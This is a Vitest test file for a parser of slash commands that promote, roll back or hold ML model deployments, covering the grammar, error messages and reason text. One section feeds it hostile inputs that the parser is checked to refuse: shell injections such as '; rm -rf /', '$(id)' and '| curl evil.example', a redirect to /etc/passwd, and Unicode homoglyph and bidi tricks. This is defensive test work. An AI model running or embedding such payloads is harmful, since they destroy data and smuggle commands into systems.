import { describe, expect, it } from 'vitest'
import type { Command } from '../../../core/commands/command.js'
import { USAGE } from '../../../core/commands/command.js'
import { parseComment } from '../../../core/commands/parse-comment.js'

const command = (text: string) => {
  const parsed = parseComment(text)
  if (parsed.kind !== 'command') throw new Error(`expected a command, got ${JSON.stringify(parsed)}`)
  return parsed.command as Command & { reason?: string }
}
const invalid = (text: string) => {
  const parsed = parseComment(text)
  if (parsed.kind !== 'invalid') throw new Error(`expected invalid, got ${JSON.stringify(parsed)}`)
  return parsed
}

describe('parseComment: which lines are commands', () => {
  it.each([
    ['a plain comment', 'LGTM, ship it'],
    ['another bot’s command', '/assign @ana'],
    ['a slash word that starts like a verb', '/promoted yesterday, see above'],
    ['a verb mid-line', 'please /promote fraud-detector to prod'],
    ['a backtick fence', 'Try this:\n```\n/promote fraud-detector to prod\n```'],
    ['a tilde fence with an info string', '~~~sh\n/promote fraud-detector to prod\n~~~'],
    ['an unclosed fence', 'oops\n```\n/promote fraud-detector to prod'],
    ['a longer fence not closed by a shorter one', '````\n```\n/promote fraud-detector to prod\n````'],
    ['a block quote', '> /promote fraud-detector to prod\n\nwhy was this run?'],
    ['a nested block quote', '> > /rollback fraud-detector in prod'],
    ['an HTML comment', '<!-- /promote fraud-detector to prod -->'],
    ['a multi-line HTML comment', 'hi\n<!--\n/promote fraud-detector to prod\n-->\nbye'],
    ['an unclosed HTML comment', 'hi <!--\n/promote fraud-detector to prod'],
    ['a line following a comment’s end', '<!-- note --> /promote fraud-detector to prod'],
    ['four spaces of indent', '    /promote fraud-detector to prod'],
    ['a tab of indent', '\t/promote fraud-detector to prod'],
    ['an empty body', ''],
  ])('ignores %s', (_, body) => {
    expect(parseComment(body)).toEqual({ kind: 'none' })
  })

  it('reads a command after a closed fence, quote and comment, numbering lines as written', () => {
    const body = '```\n/hold prod\n```\n> /hold prod\n<!-- /hold prod -->\n/unhold prod'
    expect(parseComment(body)).toEqual({
      kind: 'command',
      line: 6,
      command: { verb: 'unhold', environment: 'prod' },
    })
  })

  it('reads a line starting with a backtick run that holds a backtick as text, not as a fence', () => {
    expect(parseComment('```x` inline\n/help').kind).toBe('command')
  })

  it.each([
    ['one space', ' /help'],
    ['three spaces', '   /help'],
  ])('accepts a command indented by %s', (_, body) => {
    expect(command(body)).toEqual({ verb: 'help' })
  })

  it('reads CRLF and CR line endings', () => {
    expect(parseComment('Thanks!\r\n/promote fraud-detector@1.4.0 to staging\r\nQ3 retrain\r\n')).toEqual({
      kind: 'command',
      line: 2,
      command: {
        verb: 'promote',
        model: 'fraud-detector',
        version: '1.4.0',
        environment: 'staging',
        reason: 'Q3 retrain',
      },
    })
    expect(command('/hold prod\rfreeze').reason).toBe('freeze')
  })

  it('refuses two command lines, listing them, even when one is invalid', () => {
    expect(
      parseComment('/promote fraud-detector to staging\nand then\n/PROMOTE fraud-detector to prod'),
    ).toEqual({
      kind: 'multiple',
      lines: [1, 3],
    })
    expect(parseComment('/hold prod\n/unhold Prod')).toEqual({ kind: 'multiple', lines: [1, 2] })
  })

  it('counts a command line inside a /promote reason as a second command', () => {
    expect(
      parseComment('/promote fraud-detector to staging\nbecause\n/rollback fraud-detector in prod').kind,
    ).toBe('multiple')
  })

  it('does not count other bots’ commands, which stay in the reason', () => {
    expect(command('/promote fraud-detector to staging\n/assign @ana')).toMatchObject({
      reason: '/assign @ana',
    })
  })
})

describe('parseComment: the grammar', () => {
  it.each([
    [
      '/promote fraud-detector to staging',
      { verb: 'promote', model: 'fraud-detector', environment: 'staging' },
    ],
    [
      '/Promote fraud-detector@2.0.0-rc.1+build.7 TO prod',
      { verb: 'promote', model: 'fraud-detector', version: '2.0.0-rc.1+build.7', environment: 'prod' },
    ],
    ['/rollback fraud-detector in prod', { verb: 'rollback', model: 'fraud-detector', environment: 'prod' }],
    [
      '/ROLLBACK fraud-detector IN prod To 1.3.2',
      { verb: 'rollback', model: 'fraud-detector', environment: 'prod', version: '1.3.2' },
    ],
    ['/hold prod', { verb: 'hold', environment: 'prod' }],
    ['/hold prod fraud-detector', { verb: 'hold', environment: 'prod', model: 'fraud-detector' }],
    [
      '/hold prod fraud-detector chargebacks up 3x',
      { verb: 'hold', environment: 'prod', model: 'fraud-detector', reason: 'chargebacks up 3x' },
    ],
    ['/hold prod Quarter-end freeze', { verb: 'hold', environment: 'prod', reason: 'Quarter-end freeze' }],
    ['/unhold prod', { verb: 'unhold', environment: 'prod' }],
    ['/unhold prod fraud-detector', { verb: 'unhold', environment: 'prod', model: 'fraud-detector' }],
    ['/hold cancel prod', { verb: 'unhold', environment: 'prod' }],
    ['/hold CANCEL prod fraud-detector', { verb: 'unhold', environment: 'prod', model: 'fraud-detector' }],
    ['/help', { verb: 'help' }],
    ['/HELP Rollback', { verb: 'help', topic: 'rollback' }],
    ['/help /hold', { verb: 'help', topic: 'hold' }],
    [
      '/promote\tfraud-detector  to\t staging   ',
      { verb: 'promote', model: 'fraud-detector', environment: 'staging' },
    ],
  ])('reads %j', (body, expected) => {
    expect(command(body)).toStrictEqual(expected)
  })

  it.each([
    ['/promote', 'say which model to promote and where to', 'promote'],
    ['/promote fraud-detector', 'say where to: /promote fraud-detector to <env>', 'promote'],
    ['/promote fraud-detector@1.4.0 to', 'say where to: /promote fraud-detector@1.4.0 to <env>', 'promote'],
    [
      '/promote fraud-detector staging',
      'say to before the environment: /promote fraud-detector to staging',
      'promote',
    ],
    [
      '/promote fraud-detector at staging now',
      'say to before the environment: /promote fraud-detector to <env>',
      'promote',
    ],
    [
      '/promote fraud-detector to staging now',
      'unexpected text after staging: write a reason on the lines below the command',
      'promote',
    ],
    ['/promote Fraud-Detector to staging', 'model names are lowercase: fraud-detector', 'promote'],
    ['/promote fraud-detector to Prod', 'environment names are lowercase: prod', 'promote'],
    ['/promote fraud-detector@ to prod', 'say which version after the @: fraud-detector@1.4.0', 'promote'],
    [
      '/promote fraud-detector@latest to prod',
      'latest is not a version; versions are immutable: name one such as 1.4.0',
      'promote',
    ],
    ['/promote fraud-detector@STABLE to prod', 'versions are immutable: name one such as 1.4.0', 'promote'],
    [
      '/promote fraud-detector@main to prod',
      'main is not a version; versions are immutable: name one such as 1.4.0',
      'promote',
    ],
    ['/promote fraud-detector@v1.4.0 to prod', 'versions have no leading v: 1.4.0', 'promote'],
    [
      '/promote fraud-detector@1.4 to prod',
      'a version has three numbers, MAJOR.MINOR.PATCH: 1.4.0',
      'promote',
    ],
    [
      '/promote fraud-detector@01.4.0 to prod',
      'the version is not a version: expected MAJOR.MINOR.PATCH with an optional -prerelease or +build, such as 1.4.0 or 2.0.0-rc.1',
      'promote',
    ],
    [
      '/promote 9lives to prod',
      'the model is not a model name: expected lowercase letters, digits and -, starting with a letter, at most 53 characters, such as fraud-detector',
      'promote',
    ],
    [
      '/promote a@1.0.0@2.0.0 to prod',
      'the version is not a version: expected MAJOR.MINOR.PATCH with an optional -prerelease or +build, such as 1.4.0 or 2.0.0-rc.1',
      'promote',
    ],
    ['/rollback', 'say which model to roll back and in which environment', 'rollback'],
    ['/rollback fraud-detector', 'say in which environment: /rollback fraud-detector in <env>', 'rollback'],
    [
      '/rollback fraud-detector in',
      'say in which environment: /rollback fraud-detector in <env>',
      'rollback',
    ],
    [
      '/rollback fraud-detector to prod',
      'say in before the environment: /rollback fraud-detector in <env>',
      'rollback',
    ],
    [
      '/rollback fraud-detector@1.3.2 in prod',
      'say the version after to: /rollback fraud-detector in <env> to 1.3.2',
      'rollback',
    ],
    [
      '/rollback fraud-detector in prod to',
      'say which version: /rollback fraud-detector in prod to <version>',
      'rollback',
    ],
    [
      '/rollback fraud-detector in prod to latest',
      'latest is not a version; versions are immutable: name one such as 1.4.0',
      'rollback',
    ],
    [
      '/rollback fraud-detector in prod please',
      'unexpected text after prod: write a reason on the lines below the command, or /rollback fraud-detector in prod to <version>',
      'rollback',
    ],
    [
      '/rollback fraud-detector in prod to 1.3.2 now',
      'unexpected text after 1.3.2: write a reason on the lines below the command',
      'rollback',
    ],
    ['/hold', 'say which environment to hold: /hold <env>', 'hold'],
    ['/hold PROD', 'environment names are lowercase: prod', 'hold'],
    ['/hold cancel', 'say which environment to release: /hold cancel <env>', 'unhold'],
    ['/unhold', 'say which environment to release: /unhold <env>', 'unhold'],
    ['/unhold prod Fraud-Detector', 'model names are lowercase: fraud-detector', 'unhold'],
    [
      '/unhold prod fraud-detector thanks',
      'unexpected text after fraud-detector: /unhold takes no reason',
      'unhold',
    ],
    [
      '/hold cancel prod fraud-detector thanks',
      'unexpected text after fraud-detector: /hold cancel takes no reason',
      'unhold',
    ],
    ['/help promtoe', 'no command by that name; did you mean promote?', 'help'],
    ['/help deploy', 'no command by that name', 'help'],
    ['/help promote now', 'unexpected text after promote', 'help'],
  ] as const)('refuses %j: %s', (body, message, usageOf) => {
    expect(invalid(body)).toMatchObject({ message, usage: USAGE[usageOf], line: 1 })
  })

  it('names the verb that was typed', () => {
    expect(invalid('/hold cancel')).toMatchObject({ verb: 'hold' })
    expect(invalid('/PROMOTE')).toMatchObject({ verb: 'promote' })
  })
})

describe('parseComment: hostile command lines', () => {
  const ascii = 'type commands in plain ASCII, without quotes, backticks or shell characters'
  it.each([
    ['a shell sequence', '/promote a@1.0.0 to prod; rm -rf /', 'U+003B (a shell character) at column 25'],
    ['a command substitution', '/promote $(id) to prod', 'U+0024 (a shell character) at column 10'],
    ['backticks', '/promote `id` to prod', 'U+0060 (a backtick) at column 10'],
    ['a pipe', '/hold prod | curl evil.example', 'U+007C (a shell character) at column 12'],
    ['a redirect', '/unhold prod > /etc/passwd', 'U+003E (a shell character) at column 14'],
    ['a quoted name', '/promote "fraud-detector" to prod', 'U+0022 (a quote) at column 10'],
    [
      'a typographic quote',
      '/promote \u201cfraud-detector\u201d to prod',
      'U+201C (a typographic quote) at column 10',
    ],
    [
      'a no-break space between tokens',
      '/promote fraud-detector\u00a0to prod',
      'U+00A0 (a non-ASCII space, such as a no-break space) at column 24',
    ],
    [
      'a no-break space after the verb',
      '/promote\u00a0fraud-detector to prod',
      'U+00A0 (a non-ASCII space, such as a no-break space) at column 9',
    ],
    [
      'a zero-width space in the model',
      '/promote fraud\u200b-detector to prod',
      'U+200B (a zero-width character) at column 15',
    ],
    [
      'a Cyrillic а in the model',
      '/promote fr\u0430ud-detector to prod',
      'U+0430 (a non-ASCII letter, which can pass for a Latin one) at column 12',
    ],
    [
      'a right-to-left override',
      '/promote fraud-detector to \u202eprod',
      'U+202E (a bidirectional control) at column 28',
    ],
    [
      'a control character',
      '/promote fraud-detector to prod\u0007',
      'U+0007 (a control character) at column 32',
    ],
    [
      'a hold reason with an emoji',
      '/hold prod freeze \u{1f976}',
      'U+1F976 (a non-ASCII character) at column 19',
    ],
  ])('refuses %s, naming the character by code point', (_, body, described) => {
    const parsed = invalid(body)
    expect(parsed.message).toBe(`the command line has ${described}; ${ascii}`)
  })

  it('never puts a refused character into the message', () => {
    for (const body of [
      '/promote fr\u0430ud to prod',
      '/promote a\u202e to b',
      '/hold prod `x`',
      '/promote $(id) to x',
    ])
      expect(invalid(body).message).toMatch(/^[\x20-\x7e]*$/)
  })

  it('accepts any characters in the reason lines below the command', () => {
    expect(command('/promote fraud-detector to prod\nfixes `$(id)` — ça marche 🎉').reason).toBe(
      'fixes `$(id)` — ça marche 🎉',
    )
  })
})

describe('parseComment: reasons', () => {
  it('takes the visible lines below the command, trimmed, skipping code, quotes and comments', () => {
    const body = [
      '/rollback fraud-detector in prod',
      '',
      '  Chargebacks doubled after 1.4.0.  ',
      '```',
      'secret logs',
      '```',
      '> someone said',
      'See the dashboard. <!-- hidden -->',
      '',
    ].join('\n')
    expect(command(body).reason).toBe('Chargebacks doubled after 1.4.0.\nSee the dashboard.')
  })

  it('joins the rest of a /hold line and the lines below', () => {
    expect(command('/hold prod fraud-detector chargebacks\nup 3x since Monday').reason).toBe(
      'chargebacks\nup 3x since Monday',
    )
  })

  it('ignores the lines below /unhold and /help', () => {
    expect(command('/unhold prod\nthanks all')).toStrictEqual({ verb: 'unhold', environment: 'prod' })
    expect(command('/help\nwhat can I do?')).toStrictEqual({ verb: 'help' })
  })

  it('accepts a reason of 500 characters and refuses 501, saying the limit', () => {
    const reason = 'x'.repeat(500)
    expect(command(`/promote fraud-detector to prod\n${reason}`).reason).toBe(reason)
    expect(invalid(`/promote fraud-detector to prod\n${reason}y`)).toMatchObject({
      message: 'the reason has 501 characters, more than the 500 allowed: shorten it',
      usage: USAGE.promote,
      line: 1,
    })
  })

  it('counts characters, not UTF-16 units', () => {
    expect(command(`/hold prod\n${'🎉'.repeat(500)}`).reason).toHaveLength(1000)
  })
})
